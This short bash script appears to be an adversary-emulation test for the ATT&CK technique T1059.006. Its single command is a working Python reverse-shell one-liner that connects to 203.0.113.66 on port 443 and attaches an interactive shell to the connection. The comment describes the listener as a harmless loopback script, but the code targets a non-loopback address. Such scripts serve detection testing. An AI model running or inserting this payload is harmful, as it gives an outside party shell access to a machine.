#!/bin/bash
# technique: T1059.006 Command and Scripting Interpreter: Python
# tactic: command-and-control
# user: alice
# needs: python3
# does: connects a shell to a foreign server from Python
# harmless: the server that answers is a script on the loopback device and sends queries

timeout 5 python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.66",443));[os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call(["/bin/sh","-i"])'
true
